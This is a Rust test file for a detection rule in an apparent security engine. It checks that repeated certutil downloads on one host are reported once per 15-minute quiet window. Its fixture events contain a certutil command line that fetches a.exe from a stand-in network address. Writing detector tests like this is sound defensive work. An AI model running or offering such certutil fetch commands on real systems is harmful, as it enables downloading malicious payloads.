//! certutil-download in the real host: a device and URL are reported once per quiet window.

use yagura::Value;
use yagura_tests::{context, events, instance, run};

/// The same download, at `minute` past 10:00.
fn download(minute: u32) -> String {
    format!(
        r#"{{"time":"2024-05-01T10:{minute:02}:00Z","class":"process","activity":"create","device":{{"hostname":"WS07"}},"process":{{"pid":6120,"image":"C:\\Windows\\System32\\certutil.exe","cmd_line":"certutil -urlcache -f http://203.0.113.7/a.exe a.exe"}}}}"#
    ) + "\n"
}

#[test]
fn a_download_is_reported_once_per_quiet_window() {
    let input = download(0) + &download(10) + &download(20);
    let quiet = [("quiet_minutes", Value::Integer(15))];
    let run = run(vec![instance("certutil-download", &quiet)], events(&input));

    let found = run.of("certutil-download");
    let seqs: Vec<u64> = found.iter().flat_map(|f| f.evidence.clone()).collect();
    assert_eq!(seqs, [1, 3], "10:10 is inside 10:00's window, 10:20 is not");
    assert_eq!(context(found[1], "downloads_in_window"), Some("2"));
    assert_eq!(run.stats("certutil-download").faults, 0);
}
